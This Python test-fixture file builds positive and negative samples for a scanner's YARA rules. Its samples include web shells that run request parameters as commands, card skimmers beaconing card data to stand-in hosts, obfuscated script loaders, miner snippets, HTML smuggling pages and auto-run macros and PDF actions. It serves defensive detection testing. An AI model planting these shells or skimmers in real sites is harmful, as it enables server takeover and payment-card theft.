@@ -1,0 +1,554 @@
+"""Positive and negative samples for every bundled YARA rule, generated as bytes (never real malware).
+
+Each case names the file as it would be uploaded (the extension matters to the type rules) and the EXACT
+set of bundled rules it must match: an empty set is a negative sample, an ordinary file that looks close
+to an attack (a minified library, a PDF that opens on page 1, a PHP page that reads request parameters).
+"""
+
+from __future__ import annotations
+
+import base64
+import io
+import struct
+import zipfile
+from collections.abc import Callable
+from dataclasses import dataclass
+
+from bucketguard.demo import pranks
+
+
+@dataclass(frozen=True)
+class RuleCase:
+    id: str
+    name: str  # the logical name (S3 key or inner archive path)
+    make: Callable[[], bytes]
+    expected: frozenset[str]
+
+    @property
+    def data(self) -> bytes:
+        return self.make()
+
+
+def _case(id_: str, name: str, make: Callable[[], bytes], *expected: str) -> RuleCase:
+    return RuleCase(id_, name, make, frozenset(expected))
+
+
+# --- web assets -----------------------------------------------------------------------------------------
+
+# A realistic minified library: the shapes jQuery/lodash really use (createElement("script") with a
+# variable src, String.fromCharCode of one code, Function("return this"), a few \x escapes, a data URI).
+MINIFIED_LIBRARY = (
+    b"/*! camplib v3.7.1 | (c) camp | MIT */\n"
+    b'!function(e,t){"use strict";"object"==typeof module&&"object"==typeof module.exports?'
+    b"module.exports=e.document?t(e,!0):function(e){return t(e)}:t(e)}"
+    b'("undefined"!=typeof window?window:this,function(C,e){var r=C.document,g=Function("return this")();'
+    b'function m(e,t,n){var i,o,a=(n=n||r).createElement("script");if(a.text=e,t)for(i in t)'
+    b"(o=t[i]||t.getAttribute&&t.getAttribute(i))&&a.setAttribute(i,o);"
+    b"n.head.appendChild(a).parentNode.removeChild(a)}"
+    b"function u(e){return String.fromCharCode(65536+e)}var re=/[\\x20\\t\\r\\n\\f]/g,"
+    b"fn=function(e,t){var n=r.createElement(\"script\");n.async=!0,n.src=t.url,n.onload=e;"
+    b"r.head.appendChild(n)};"
+    b'var ifr=r.createElement("iframe");ifr.frameBorder=0,ifr.width=0,ifr.height=0;'
+    b"C.camplib=C.$={version:\"3.7.1\",globalEval:m,load:fn,frame:ifr,charOf:u}});\n"
+    b".icon{background:url(data:image/png;base64," + base64.b64encode(bytes(range(256)) * 2) + b")}\n"
+)
+
+
+def obfuscated_eval_atob() -> bytes:
+    payload = base64.b64encode(b"alert('pranked')").decode()
+    return MINIFIED_LIBRARY + f';eval(atob("{payload}"));\n'.encode()
+
+
+def obfuscated_function_charcode() -> bytes:
+    codes = ",".join(str(ord(c)) for c in "console.log('the camp website was pranked')")
+    return MINIFIED_LIBRARY + f";var _0x=String.fromCharCode({codes});new Function(_0x)();\n".encode()
+
+
+def obfuscated_settimeout_unescape() -> bytes:
+    escaped = "".join(f"%{ord(c):02x}" for c in "console.log('pranked')")
+    return f"setTimeout(unescape('{escaped}'), 10);\n".encode()
+
+
+def executed_hex_blob() -> bytes:
+    hex_escaped = "".join(f"\\x{ord(c):02x}" for c in "console.log('this camp site has been pranked!!')" * 2)
+    return MINIFIED_LIBRARY + f';eval("{hex_escaped}");\n'.encode()
+
+
+def executed_base64_literal() -> bytes:
+    payload = base64.b64encode(b"console.log('this camp site has been pranked');" * 5).decode()
+    return f'Function(atob("{payload}"))();\n'.encode()
+
+
+def hidden_iframe_html() -> bytes:
+    return (
+        b"<!doctype html><html><body><h1>Camp news</h1>"
+        b'<iframe src="http://ads.invalid/landing" width="0" height="0" frameborder="0"></iframe>'
+        b"</body></html>\n"
+    )
+
+
+def hidden_iframe_js() -> bytes:
+    return MINIFIED_LIBRARY + (
+        b'\ndocument.write(\'<iframe src="https://ads.invalid/x" style="visibility:hidden"></iframe>\');\n'
+    )
+
+
+def tag_manager_page() -> bytes:
+    """Google Tag Manager's noscript iframe is hidden on purpose; a visible video embed is fine too."""
+    return (
+        b"<!doctype html><html><head><title>Camp</title></head><body>\n"
+        b'<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-ABC123" '
+        b'height="0" width="0" style="display:none;visibility:hidden"></iframe></noscript>\n'
+        b'<iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/xyz" '
+        b'title="Camp video" allowfullscreen></iframe>\n</body></html>\n'
+    )
+
+
+def tag_manager_page_with_hidden_iframe() -> bytes:
+    return tag_manager_page().replace(
+        b"</body>", b'<iframe src="http://ads.invalid/" width="1" height="1"></iframe></body>'
+    )
+
+
+def document_write_remote_script() -> bytes:
+    return b"document.write('<script src=\"//cdn-stats.invalid/a.js\"></script>');\n"
+
+
+def create_element_remote_script() -> bytes:
+    return MINIFIED_LIBRARY + (
+        b"\n(function(){var s=document.createElement('script');s.src='https://cdn-stats.invalid/x.js';"
+        b"document.body.appendChild(s);})();\n"
+    )
+
+
+def analytics_snippet_page() -> bytes:
+    """The classic asynchronous analytics snippet: the script URL is computed, not a literal."""
+    return (
+        b"<script>var _gaq=_gaq||[];_gaq.push(['_setAccount','UA-0000-1']);(function(){"
+        b"var ga=document.createElement('script');ga.type='text/javascript';ga.async=true;"
+        b"ga.src=('https:'==document.location.protocol?'https://ssl':'http://www')+'.google-analytics.com/ga.js';"
+        b"var s=document.getElementsByTagName('script')[0];s.parentNode.insertBefore(ga,s);})();</script>\n"
+    )
+
+
+def card_skimmer() -> bytes:
+    return MINIFIED_LIBRARY + (
+        b'\n(function(){function g(){var d={};document.querySelectorAll("input, select").forEach('
+        b'function(i){d[i.name]=i.value});if(d["cc_number"]&&d["cvv"]){d.exp=d["exp_month"];'
+        b'navigator.sendBeacon("https://cdn-analytics.invalid/c",btoa(JSON.stringify(d)))}}'
+        b'document.addEventListener("submit",g,true)})();\n'
+    )
+
+
+def card_skimmer_image_beacon() -> bytes:
+    return (
+        b"window.addEventListener('load',function(){var f=document.getElementsByTagName('form')[0];"
+        b"f.addEventListener('submit',function(){var n=document.querySelector('#card-number').value,"
+        b"c=document.querySelector('#cvc').value,e=document.querySelector('#expiry-date').value;"
+        b"var i=new Image();i.src='https://img.invalid/p.gif?d='+btoa(JSON.stringify([n,c,e]));});});\n"
+    )
+
+
+def checkout_form_script() -> bytes:
+    """A shop's own checkout: reads the card fields, validates, posts to its own relative endpoint."""
+    return (
+        b"function luhn(n){var s=0,a=!1;for(var i=n.length-1;i>=0;i--){var d=+n[i];if(a){d*=2;if(d>9)d-=9}"
+        b"s+=d;a=!a}return s%10==0}\ndocument.querySelector('#checkout').addEventListener('submit',"
+        b"function(ev){ev.preventDefault();var card=document.querySelector('#card-number').value,"
+        b"cvv=document.querySelector('#cvv').value,exp=document.querySelector('#expiry-date').value;"
+        b"if(!luhn(card)){alert('check the card number');return}fetch('/api/pay',{method:'POST',"
+        b"headers:{'Content-Type':'application/json'},body:JSON.stringify({card:card,cvv:cvv,exp:exp})})});\n"
+    )
+
+
+def coinhive_page() -> bytes:
+    return (
+        b'<html><body><script src="https://coinhive.com/lib/coinhive.min.js"></script>'
+        b"<script>var miner=new CoinHive.Anonymous('0123456789abcdef0123456789abcdef');"
+        b"miner.setThrottle(0.2);miner.start();</script></body></html>\n"
+    )
+
+
+def generic_miner_script() -> bytes:
+    return (
+        b"var pool='stratum+tcp://pool.invalid:3333';var w=new Worker('worker.js');"
+        b"w.postMessage({algo:'cryptonight',pool:pool});w.onmessage=function(e){"
+        b"document.title=e.data.hashesPerSecond+' H/s'};\n"
+    )
+
+
+def wasm_image_filter_script() -> bytes:
+    """WebAssembly in a worker for image filters: the miners' tools, none of their purpose."""
+    return (
+        b"const w=new Worker('filters.js');fetch('blur.wasm').then(r=>r.arrayBuffer())"
+        b".then(b=>WebAssembly.instantiate(b)).then(m=>{w.postMessage(m);});"
+        b"document.querySelector('#go').onclick=()=>w.postMessage({start:true});\n"
+    )
+
+
+def _smuggling_page(literal: str) -> bytes:
+    return (
+        "<html><body><p>Your invoice is downloading...</p><script>\n"
+        f'var d = "{literal}";\n'
+        "var s = atob(d); var b = new Uint8Array(s.length);\n"
+        "for (var i = 0; i < s.length; i++) { b[i] = s.charCodeAt(i); }\n"
+        "var blob = new Blob([b], {type: 'application/octet-stream'});\n"
+        "var a = document.createElement('a'); a.href = window.URL.createObjectURL(blob);\n"
+        "a.download = 'invoice.zip'; document.body.appendChild(a); a.click();\n"
+        "</script></body></html>\n"
+    ).encode()
+
+
+def html_smuggling_zip() -> bytes:
+    return _smuggling_page(base64.b64encode(pranks.clean_zip()).decode())
+
+
+def html_smuggling_executable() -> bytes:
+    return _smuggling_page(base64.b64encode(pranks.pe_header() * 3).decode())
+
+
+def csv_export_page() -> bytes:
+    """An ordinary "download as CSV" button, next to an inline PNG logo: a Blob, but of computed data."""
+    logo = base64.b64encode(pranks.clean_png()).decode()
+    return (
+        f'<html><body><img src="data:image/png;base64,{logo}"><table id="t"></table><script>\n'
+        "function exportCsv(){var rows=[...document.querySelectorAll('#t tr')].map(r=>"
+        "[...r.cells].map(c=>c.textContent).join(','));\n"
+        "var blob=new Blob([rows.join('\\n')],{type:'text/csv'});var a=document.createElement('a');\n"
+        "a.href=URL.createObjectURL(blob);a.download='timetable.csv';a.click();}\n"
+        "</script></body></html>\n"
+    ).encode()
+
+
+# --- web shells -----------------------------------------------------------------------------------------
+
+
+def php_system_get() -> bytes:
+    return b"<?php if (isset($_GET['cmd'])) { echo '<pre>'; system($_GET['cmd']); echo '</pre>'; } ?>\n"
+
+
+def php_eval_base64_post() -> bytes:
+    return b"<?php @eval(base64_decode($_POST['x'])); ?>\n"
+
+
+def php_encoded_payload() -> bytes:
+    payload = base64.b64encode(b"echo 'pranked';").decode()
+    return f"<?php eval(gzinflate(base64_decode('{payload}'))); ?>\n".encode()
+
+
+def php_backtick() -> bytes:
+    return b"<html><body><?php echo `$_REQUEST['c']`; ?></body></html>\n"
+
+
+def php_dynamic_call() -> bytes:
+    return b"<?php $_POST['f']($_POST['a']); ?>\n"
+
+
+def php_ordinary_page() -> bytes:
+    """Reads request parameters, runs a fixed command, includes a template: not a shell."""
+    return (
+        b"<?php\n$name = htmlspecialchars($_GET['name'] ?? 'camper', ENT_QUOTES);\n"
+        b"$page = basename($_GET['page'] ?? 'home');\ninclude __DIR__ . \"/pages/$page.php\";\n"
+        b"$today = exec('date +%F');\n$stmt = $db->prepare('SELECT * FROM kids WHERE id = ?');\n"
+        b"$stmt->execute([$_POST['id']]);\necho \"<h1>Hello $name, today is $today</h1>\";\n?>\n"
+    )
+
+
+def jsp_exec_param() -> bytes:
+    return (
+        b'<%@ page import="java.io.*" %><%\nString c = request.getParameter("cmd");\n'
+        b"Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\"));\n"
+        b"BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));\n%>\n"
+    )
+
+
+def jsp_process_builder() -> bytes:
+    return (
+        b'<%@ page import="java.util.*,java.io.*"%><% String[] c = {"/bin/sh", "-c", '
+        b'request.getParameter("c")}; Process p = new ProcessBuilder(c).start(); %>\n'
+    )
+
+
+def jsp_class_loader() -> bytes:
+    return (
+        b"<%@page import=\"java.util.*,javax.crypto.*\"%><%!class U extends ClassLoader{"
+        b"U(ClassLoader c){super(c);}public Class g(byte[] b){return super.defineClass(b,0,b.length);}}%>"
+        b'<%Cipher c=Cipher.getInstance("AES");byte[] d=java.util.Base64.getDecoder()'
+        b".decode(request.getReader().readLine());new U(this.getClass().getClassLoader()).g(d);%>\n"
+    )
+
+
+def jsp_ordinary_page() -> bytes:
+    return (
+        b'<%@ page contentType="text/html" %><html><body><% String n = request.getParameter("name"); %>'
+        b"<h1>Hello <%= org.owasp.encoder.Encode.forHtml(n) %></h1></body></html>\n"
+    )
+
+
+def aspx_china_chopper() -> bytes:
+    return b'<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>\n'
+
+
+def aspx_process_start() -> bytes:
+    return (
+        b'<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %><script runat="server">\n'
+        b'void Page_Load(object s, EventArgs e) { var psi = new ProcessStartInfo("cmd.exe", "/c " + '
+        b"Request.Form[\"c\"]); psi.RedirectStandardOutput = true; psi.UseShellExecute = false;\n"
+        b"Response.Write(Process.Start(psi).StandardOutput.ReadToEnd()); }\n</script>\n"
+    )
+
+
+def asp_execute_request() -> bytes:
+    return b'<% execute request("x") %>\n'
+
+
+def aspx_ordinary_page() -> bytes:
+    return (
+        b'<%@ Page Language="C#" %><script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
+        b'  var id = int.Parse(Request.QueryString["id"] ?? "0");\n'
+        b"  Greeting.Text = Server.HtmlEncode(Campers.Find(id).Name); }\n</script>\n"
+        b'<html><body><asp:Label id="Greeting" runat="server" /></body></html>\n'
+    )
+
+
+# --- executables dressed as something else ----------------------------------------------------------------
+
+
+def macho_header() -> bytes:
+    """A 64-bit Mach-O header (x86-64 executable) with no load commands: it does nothing."""
+    return struct.pack("<IiiIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0) + bytes(4) + b"\x00" * 32
+
+
+def fat_macho_header() -> bytes:
+    return struct.pack(">II", 0xCAFEBABE, 2) + struct.pack(">iiIII", 0x01000007, 3, 4096, 64, 12) * 2 + bytes(32)
+
+
+def java_class_header() -> bytes:
+    """A Java class file shares the 0xCAFEBABE magic with fat Mach-O: not an executable in disguise."""
+    return struct.pack(">IHH", 0xCAFEBABE, 0, 52) + bytes(64)
+
+
+# --- Office macros ----------------------------------------------------------------------------------------
+
+_OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+
+
+def _ole(directory_names: list[str], body: bytes) -> bytes:
+    """An OLE compound-file header followed by UTF-16 directory names and a body: just enough structure
+    for the rules, which look at the signature, the storage names and the macro procedure names."""
+    header = _OLE_MAGIC + bytes(16) + struct.pack("<HHH", 0x3E, 3, 0xFFFE) + bytes(512 - 30)
+    entries = b"".join(name.encode("utf-16-le").ljust(64, b"\x00") + bytes(64) for name in directory_names)
+    return header + entries + body.ljust(1024, b"\x00")
+
+
+def vba_project_bin(macro: str) -> bytes:
+    """vbaProject.bin as an OOXML package holds it: root storage VBA, streams _VBA_PROJECT, dir, modules."""
+    body = b'Attribute VB_Name = "ThisDocument"\r\n' + macro.encode()
+    return _ole(["Root Entry", "VBA", "_VBA_PROJECT", "dir", "ThisDocument", "PROJECT"], body)
+
+
+AUTO_OPEN_MACRO = 'Sub Document_Open()\r\n  MsgBox "Pranked!"\r\nEnd Sub\r\n'
+PLAIN_MACRO = 'Sub FormatTimetable()\r\n  Selection.Font.Bold = True\r\nEnd Sub\r\n'
+
+
+def legacy_doc_with_macro() -> bytes:
+    body = b'Attribute VB_Name = "NewMacros"\r\nSub AutoOpen()\r\n  MsgBox "Pranked!"\r\nEnd Sub\r\n'
+    names = ["Root Entry", "WordDocument", "1Table", "Macros", "VBA", "_VBA_PROJECT", "dir", "NewMacros"]
+    return _ole(names, body)
+
+
+def legacy_xls_with_macro() -> bytes:
+    body = b'Attribute VB_Name = "ThisWorkbook"\r\nPrivate Sub Workbook_Open()\r\n  Beep\r\nEnd Sub\r\n'
+    names = ["Root Entry", "Workbook", "_VBA_PROJECT_CUR", "VBA", "_VBA_PROJECT", "dir", "ThisWorkbook"]
+    return _ole(names, body)
+
+
+def legacy_doc_about_macros() -> bytes:
+    """A Word document whose TEXT explains AutoOpen to the campers, with no VBA project at all."""
+    text = "Lesson 4: never enable macros; an AutoOpen or Document_Open macro runs on opening.".encode(
+        "utf-16-le"
+    )
+    return _ole(["Root Entry", "WordDocument", "1Table", "SummaryInformation"], text)
+
+
+def docm_member(macro: str) -> bytes:
+    """The vbaProject.bin member of a .docm, as the engine hands it to the rules."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("word/vbaProject.bin", vba_project_bin(macro))
+    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
+        return archive.read("word/vbaProject.bin")
+
+
+def pranks_docm_vba_project() -> bytes:
+    with zipfile.ZipFile(io.BytesIO(pranks.macro_docm())) as archive:
+        return archive.read("word/vbaProject.bin")
+
+
+# --- PDF ------------------------------------------------------------------------------------------------
+
+
+def _pdf(catalog_extra: bytes, *extra_objects: bytes) -> bytes:
+    content = b"BT /F1 18 Tf 72 720 Td (Camp timetable) Tj ET"
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
+        b"<< /Length " + str(len(content)).encode() + b" >>\nstream\n" + content + b"\nendstream",
+        *extra_objects,
+    ]
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = []
+    for number, body in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += str(number).encode() + b" 0 obj\n" + body + b"\nendobj\n"
+    xref = len(out)
+    out += b"xref\n0 " + str(len(objects) + 1).encode() + b"\n0000000000 65535 f \n"
+    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
+    out += b"trailer\n<< /Size " + str(len(objects) + 1).encode() + b" /Root 1 0 R >>\n"
+    return bytes(out + b"startxref\n" + str(xref).encode() + b"\n%%EOF\n")
+
+
+def pdf_open_action_javascript() -> bytes:
+    return _pdf(b"/OpenAction 5 0 R", b"<< /Type /Action /S /JavaScript /JS (app.alert('Pranked!');) >>")
+
+
+def pdf_escaped_open_action_javascript() -> bytes:
+    return _pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>")
+
+
+def pdf_named_javascript() -> bytes:
+    return _pdf(
+        b"/Names << /JavaScript 5 0 R >>",
+        b"<< /Names [(init) 6 0 R] >>",
+        b"<< /S /JavaScript /JS 7 0 R >>",
+        b"<< /Length 10 >>\nstream\nvar x = 1;\nendstream",
+    )
+
+
+def pdf_launch() -> bytes:
+    return _pdf(b"/OpenAction 5 0 R", b"<< /Type /Action /S /Launch /F (cmd.exe) /NewWindow true >>")
+
+
+def pdf_open_action_page() -> bytes:
+    """The ordinary open action: show page 1, fit to window. Plus a web link annotation."""
+    return _pdf(
+        b"/OpenAction [3 0 R /Fit] /PageMode /UseOutlines",
+        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] "
+        b"/A << /S /URI /URI (https://camp.example.org/timetable) >> >>",
+    )
+
+
+def text_about_pdf_actions() -> bytes:
+    return b"Security lesson: a PDF with /OpenAction and /JavaScript or a /Launch action is dangerous.\n"
+
+
+# --- EICAR ------------------------------------------------------------------------------------------------
+
+
+def eicar_with_trailing_whitespace() -> bytes:
+    return pranks.eicar() + b"\r\n   \t\n"
+
+
+def eicar_quoted_in_text() -> bytes:
+    """Documentation that quotes the test string is not the test file (it must start the file)."""
+    return b"The EICAR test string is: " + pranks.eicar() + b"\n"
+
+
+def eicar_padded_too_long() -> bytes:
+    return pranks.eicar() + b" " * 100
+
+
+CASES: tuple[RuleCase, ...] = (
+    # EICAR
+    _case("eicar", "eicar.com", pranks.eicar, "EICAR_Test_File"),
+    _case("eicar-whitespace", "docs/eicar.txt", eicar_with_trailing_whitespace, "EICAR_Test_File"),
+    _case("eicar-in-zip-member", "homework.zip!docs/inner.zip!eicar.com", pranks.eicar, "EICAR_Test_File"),
+    _case("neg-eicar-quoted", "docs/antivirus.txt", eicar_quoted_in_text),
+    _case("neg-eicar-too-long", "eicar-padded.txt", eicar_padded_too_long),
+    # injected scripts
+    _case("pranks-injected-js", "site/js/helpers.js", pranks.injected_js,
+          "WebInject_Obfuscated_Eval_Loader", "WebInject_Remote_Script_Writer"),
+    _case("eval-atob", "site/js/jquery.min.js", obfuscated_eval_atob, "WebInject_Obfuscated_Eval_Loader"),
+    _case("function-charcode", "site/js/overlayBanner.js", obfuscated_function_charcode,
+          "WebInject_Obfuscated_Eval_Loader"),
+    _case("settimeout-unescape", "site/js/menu.js", obfuscated_settimeout_unescape,
+          "WebInject_Obfuscated_Eval_Loader"),
+    _case("eval-hex-blob", "site/js/app.js", executed_hex_blob, "WebInject_Executed_Encoded_Blob"),
+    _case("function-atob-literal", "site/js/app.js", executed_base64_literal,
+          "WebInject_Executed_Encoded_Blob", "WebInject_Obfuscated_Eval_Loader"),
+    _case("hidden-iframe-html", "site/index.html", hidden_iframe_html, "WebInject_Hidden_Iframe"),
+    _case("hidden-iframe-js", "site/js/banner.js", hidden_iframe_js, "WebInject_Hidden_Iframe"),
+    _case("gtm-plus-hidden-iframe", "site/news.html", tag_manager_page_with_hidden_iframe,
+          "WebInject_Hidden_Iframe"),
+    _case("document-write-script", "site/js/footer.js", document_write_remote_script,
+          "WebInject_Remote_Script_Writer"),
+    _case("create-element-script", "site/js/jquery.js", create_element_remote_script,
+          "WebInject_Remote_Script_Writer"),
+    _case("card-skimmer-beacon", "shop/js/checkout.js", card_skimmer, "WebInject_Card_Skimmer"),
+    _case("card-skimmer-image", "shop/js/form.js", card_skimmer_image_beacon, "WebInject_Card_Skimmer"),
+    _case("neg-minified-library", "site/js/camplib.min.js", lambda: MINIFIED_LIBRARY),
+    _case("neg-pranks-clean-js", "site/js/app.js", pranks.clean_js),
+    _case("neg-tag-manager-page", "site/index.html", tag_manager_page),
+    _case("neg-analytics-snippet", "site/index.html", analytics_snippet_page),
+    _case("neg-checkout-form", "shop/js/checkout.js", checkout_form_script),
+    # miners and smuggling
+    _case("coinhive", "site/games.html", coinhive_page, "Cryptominer_Browser"),
+    _case("generic-miner", "site/js/worker-start.js", generic_miner_script, "Cryptominer_Browser"),
+    _case("neg-wasm-filters", "site/js/filters.js", wasm_image_filter_script),
+    _case("smuggling-zip", "invoice.html", html_smuggling_zip, "HTML_Smuggling_Embedded_Blob_Download"),
+    _case("smuggling-exe", "invoice.htm", html_smuggling_executable, "HTML_Smuggling_Embedded_Blob_Download"),
+    _case("neg-csv-export", "site/timetable.html", csv_export_page),
+    # web shells
+    _case("php-system-get", "uploads/avatar.php", php_system_get, "Webshell_PHP_Request_Exec"),
+    _case("php-eval-base64-post", "uploads/x.php", php_eval_base64_post,
+          "Webshell_PHP_Request_Exec", "Webshell_PHP_Encoded_Payload"),
+    _case("php-encoded-payload", "wp-content/cache.php", php_encoded_payload, "Webshell_PHP_Encoded_Payload"),
+    _case("php-backtick", "uploads/c.php", php_backtick, "Webshell_PHP_Request_Exec"),
+    _case("php-dynamic-call", "uploads/f.php", php_dynamic_call, "Webshell_PHP_Request_Exec"),
+    _case("neg-php-page", "site/index.php", php_ordinary_page),
+    _case("jsp-exec-param", "uploads/cmd.jsp", jsp_exec_param, "Webshell_JSP_Command_Exec"),
+    _case("jsp-process-builder", "uploads/pb.jsp", jsp_process_builder, "Webshell_JSP_Command_Exec"),
+    _case("jsp-class-loader", "uploads/cl.jsp", jsp_class_loader, "Webshell_JSP_Command_Exec"),
+    _case("neg-jsp-page", "site/hello.jsp", jsp_ordinary_page),
+    _case("aspx-china-chopper", "uploads/a.aspx", aspx_china_chopper, "Webshell_ASPX_Command_Exec"),
+    _case("aspx-process-start", "uploads/p.aspx", aspx_process_start, "Webshell_ASPX_Command_Exec"),
+    _case("asp-execute-request", "uploads/e.asp", asp_execute_request, "Webshell_ASPX_Command_Exec"),
+    _case("neg-aspx-page", "site/camper.aspx", aspx_ordinary_page),
+    # executables in disguise
+    _case("pe-as-jpg", "photos/badge.jpg", pranks.pe_as_jpg, "Disguised_Executable_PE"),
+    _case("pe-as-upper-pdf", "docs/REPORT.PDF", pranks.pe_header, "Disguised_Executable_PE"),
+    _case("elf-as-jpg", "photos/camp-photo.jpg", pranks.elf_as_jpg, "Disguised_Executable_ELF"),
+    _case("elf-as-txt-in-zip", "notes.zip!week1/notes.txt", pranks.elf_header, "Disguised_Executable_ELF"),
+    _case("macho-as-css", "site/css/style.css", macho_header, "Disguised_Executable_MachO"),
+    _case("fat-macho-as-docx", "docs/plan.docx", fat_macho_header, "Disguised_Executable_MachO"),
+    _case("neg-pe-as-exe", "tools/setup.exe", pranks.pe_header),
+    _case("neg-elf-no-extension", "bin/tool", pranks.elf_header),
+    _case("neg-elf-named-jpg-dir", "photos.jpg/tool", pranks.elf_header),
+    _case("neg-java-class-as-jpg", "photos/odd.jpg", java_class_header),
+    _case("neg-png", "photos/logo.jpg", pranks.clean_png),
+    # Office macros
+    _case("pranks-docm-vba-project", "timetable.docm!word/vbaProject.bin", pranks_docm_vba_project,
+          "Office_OOXML_VBA_AutoExec"),
+    _case("docm-vba-project", "plan.docm!word/vbaProject.bin", lambda: docm_member(AUTO_OPEN_MACRO),
+          "Office_OOXML_VBA_AutoExec"),
+    _case("legacy-doc-autoopen", "old/plan.doc", legacy_doc_with_macro, "Office_OLE_VBA_AutoExec"),
+    _case("legacy-xls-workbook-open", "old/budget.xls", legacy_xls_with_macro, "Office_OLE_VBA_AutoExec"),
+    _case("neg-vba-without-autoexec", "plan.docm!word/vbaProject.bin", lambda: docm_member(PLAIN_MACRO)),
+    _case("neg-doc-about-macros", "lessons/macros.doc", legacy_doc_about_macros),
+    _case("neg-docm-package", "timetable.docm", pranks.macro_docm),
+    # PDF
+    _case("pdf-openaction-js", "docs/timetable.pdf", pdf_open_action_javascript,
+          "PDF_JavaScript", "PDF_OpenAction_Script"),
+    _case("pdf-escaped-names", "docs/menu.pdf", pdf_escaped_open_action_javascript,
+          "PDF_JavaScript", "PDF_OpenAction_Script"),
+    _case("pdf-named-js", "docs/form.pdf", pdf_named_javascript, "PDF_JavaScript"),
+    _case("pdf-launch", "docs/invoice.pdf", pdf_launch, "PDF_Launch_Action"),
+    _case("neg-pdf-open-page", "docs/guide.pdf", pdf_open_action_page),
+    _case("neg-pranks-clean-pdf", "week1/timetable.pdf", pranks.clean_pdf),
+    _case("neg-text-about-pdf", "lessons/pdf.txt", text_about_pdf_actions),
+)  # fmt: skip
+
+
+def cases_for(rule: str) -> list[RuleCase]:
+    return [case for case in CASES if rule in case.expected]
